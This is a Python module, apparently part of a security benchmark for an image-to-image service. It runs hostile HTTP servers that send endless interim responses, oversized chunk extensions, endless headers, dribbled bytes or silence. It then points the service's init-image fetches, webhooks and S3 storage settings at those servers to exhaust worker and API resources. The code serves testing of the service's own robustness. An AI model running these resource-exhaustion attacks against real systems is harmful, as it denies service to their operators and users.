"""F3: servers of the attacker that never come to an end, read by api and worker."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import suppress
from typing import Any

from benchmarks.attack import images
from benchmarks.attack.callers import SECONDS, create_jobs, spec, stub_of
from benchmarks.attack.target import ATTACKER_HOST, Attack, Progress, Target
from img2img.v1 import service_pb2

_OK = b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n"
_BLOCK = 64 * 1024


def _repeated(head: bytes, unit: bytes) -> Callable[[], AsyncIterator[bytes]]:
    """Returns a response that begins with `head` and repeats `unit` as fast as it is read."""
    block = unit * max(1, _BLOCK // len(unit))

    async def answer() -> AsyncIterator[bytes]:
        yield head
        while True:
            yield block

    return answer


async def _dribble() -> AsyncIterator[bytes]:
    yield _OK + b"Content-Length: 1000000\r\n\r\n"
    while True:
        yield b"\x89"
        await asyncio.sleep(0.5)


async def _header_dribble() -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\nX-Long: "
    while True:
        yield b"a"
        await asyncio.sleep(0.1)


async def _silence() -> AsyncIterator[bytes]:
    await asyncio.sleep(3600)
    yield b""


ANSWERS: dict[str, Callable[[], AsyncIterator[bytes]]] = {
    "100 for ever": _repeated(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "103 for ever": _repeated(b"", b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"),
    "1-byte chunks": _repeated(_OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n"),
    "chunk extensions": _repeated(
        _OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1;name=" + b"v" * 1000 + b"\r\na\r\n"
    ),
    "one endless chunk extension": _repeated(_OK + b"Transfer-Encoding: chunked\r\n\r\n1;x=", b"v"),
    "trailers for ever": _repeated(
        _OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X-Trailer: value\r\n"
    ),
    "one endless header": _repeated(b"HTTP/1.1 200 OK\r\nX-Long: ", b"a"),
    "headers for ever": _repeated(b"HTTP/1.1 200 OK\r\n", b"X-More: value\r\n"),
    "a byte now and then": _dribble,
    "a header byte now and then": _header_dribble,
    "nothing": _silence,
}


async def _serve(progress: Progress, name: str) -> int:
    """Starts a server whose every response is this one, and returns its port."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        progress.outcomes["connections"] += 1
        with suppress(OSError):
            await reader.readuntil(b"\r\n\r\n")
            async for part in ANSWERS[name]():
                writer.write(part)
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, ATTACKER_HOST, 0)
    return int(server.sockets[0].getsockname()[1])


async def init_images(target: Target, progress: Progress, sizes: Mapping[str, Any]) -> None:
    """Creates jobs whose init image is at the attacker's server."""
    port = await _serve(progress, sizes["answer"])
    address = f"http://{ATTACKER_HOST}:{port}/image.png"
    await create_jobs(target, progress, [spec(address)] * sizes["calls"])


async def webhooks(target: Target, progress: Progress, sizes: Mapping[str, Any]) -> None:
    """Creates jobs whose webhook is at the attacker's server."""
    port = await _serve(progress, sizes["answer"])
    webhook = f"http://{ATTACKER_HOST}:{port}/hook"
    one = spec(images.plain(64, "JPEG"), webhook=webhook)
    await create_jobs(target, progress, [one] * sizes["calls"])


async def own_storage(target: Target, progress: Progress, sizes: Mapping[str, Any]) -> None:
    """Lets the worker upload the results to the attacker's server."""
    port = await _serve(progress, sizes["answer"])
    async with stub_of(target) as stub:
        request = service_pb2.UpdateStorageSettingsRequest()
        request.settings.endpoint_url = f"http://{ATTACKER_HOST}:{port}"
        request.settings.bucket = "bucket"
        request.settings.public_url = "https://example.com/files"
        request.settings.image_directory = "images"
        request.settings.region_name = "us-east-1"
        request.settings.aws_access_key_id = "key-of-the-attacker"
        request.settings.aws_secret_access_key = "secret-of-the-attacker"
        metadata = target.metadata("attacker-1")
        await stub.UpdateStorageSettings(request, metadata=metadata, timeout=SECONDS)
    one = spec(images.plain(64, "JPEG"))
    await create_jobs(target, progress, [one] * sizes["calls"])


def _fetch(kind: str, answer: str, calls: int, **more: Any) -> Attack:
    return Attack(
        f"F3-{kind}",
        f"init images from a server that sends {answer}",
        init_images,
        {"calls": calls, "answer": answer},
        **more,
    )


ATTACKS = (
    _fetch("endless-100", "100 for ever", 30, short={"calls": 10}),
    _fetch("endless-103", "103 for ever", 10),
    _fetch("tiny-chunks", "1-byte chunks", 30),
    _fetch("chunk-extensions", "chunk extensions", 10),
    _fetch("endless-extension", "one endless chunk extension", 10),
    _fetch("endless-trailers", "trailers for ever", 10),
    _fetch("endless-header", "one endless header", 10),
    _fetch("endless-headers", "headers for ever", 10),
    _fetch("dribble", "a byte now and then", 100),
    _fetch("header-dribble", "a header byte now and then", 100),
    _fetch("silence", "nothing", 100),
    Attack(
        "F3-webhooks",
        "webhooks to a server that sends 100 for ever",
        webhooks,
        {"calls": 8, "answer": "100 for ever"},
    ),
    Attack(
        "F3-webhooks-tiny-chunks",
        "webhooks to a server that sends 1-byte chunks",
        webhooks,
        {"calls": 8, "answer": "1-byte chunks"},
    ),
    Attack(
        "F3-own-storage",
        "results of jobs to an S3 server that sends 100 for ever",
        own_storage,
        {"calls": 4, "answer": "100 for ever"},
    ),
    Attack(
        "F3-own-storage-silence",
        "results of jobs to an S3 server that does not answer",
        own_storage,
        {"calls": 8, "answer": "nothing"},
    ),
)
